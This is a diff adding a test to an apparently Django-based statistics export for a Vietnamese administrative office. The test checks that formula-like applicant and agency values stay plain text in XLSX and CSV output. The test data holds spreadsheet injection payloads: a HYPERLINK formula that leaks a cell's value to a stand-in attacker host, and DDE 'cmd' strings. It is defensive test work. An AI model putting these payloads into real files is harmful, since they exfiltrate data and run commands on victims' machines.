@@ -72,3 +72,48 @@ def test_the_book_covers_only_what_the_user_may_read(client, world, tmp_path):
     call_command("report", "--period", "2019-03", "--format", "book", "-o", str(target),
                  stdout=io.StringIO())  # fmt: skip
     assert len(book_lines(target.read_bytes())) == 1  # scripts see every agency
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_every_export(client, world):
+    typed = {
+        "name": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+        "address": "+1+cmd|' /C calc'!A0",
+        "phone": "-2+3",
+        "collected_by": "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    dossier = world.receive(
+        vn(2019, 3, 4, 8),
+        applicant=ApplicantData(
+            name=typed["name"] + "\x07", address=typed["address"], phone=typed["phone"]
+        ),
+    )
+    world.sign(dossier, at=vn(2019, 3, 5, 9))
+    dossier_return_result(
+        actor=world.clerk, dossier_id=dossier.pk, collected_by=typed["collected_by"],
+        at=vn(2019, 3, 6, 10),
+    )  # fmt: skip
+    world.district.desk_a.name = "=1+1 Một cửa"
+    world.district.desk_a.save()
+    client.force_login(world.clerk)
+    query = {"period": "2019-03", "unit": world.district.desk_a.code}
+    book = client.get(reverse("stats-statistics"), {**query, "format": "book"})
+    sheet = load_workbook(io.BytesIO(book.content)).worksheets[0]
+    row = next(r for r in sheet.iter_rows(min_row=5) if r[1].value == dossier.code)
+    assert [row[4].value, row[5].value, row[11].value] == [
+        typed["name"],  # the bell character XLSX cannot hold is dropped, not a failed export
+        f"{typed['address']}, {typed['phone']}",
+        typed["collected_by"],
+    ]
+    assert {row[i].data_type for i in (4, 5, 11)} == {"s"}  # text, not "f" (formula)
+    assert all(row[i].quotePrefix for i in (4, 5, 11))
+    assert sheet["A2"].data_type == "s"  # the agency's name in the heading
+
+    table = client.get(reverse("stats-statistics"), {**query, "format": "xlsx"})
+    unit_cells = [
+        c for r in load_workbook(io.BytesIO(table.content)).worksheets[0].iter_rows() for c in r
+    ]
+    named = [c for c in unit_cells if isinstance(c.value, str) and "Một cửa" in c.value]
+    assert named
+    assert all(c.data_type == "s" for c in named)
+    csv_text = client.get(reverse("stats-statistics"), {**query, "format": "csv"})
+    assert "'=1+1 Một cửa" in csv_text.content.decode("utf-8-sig")
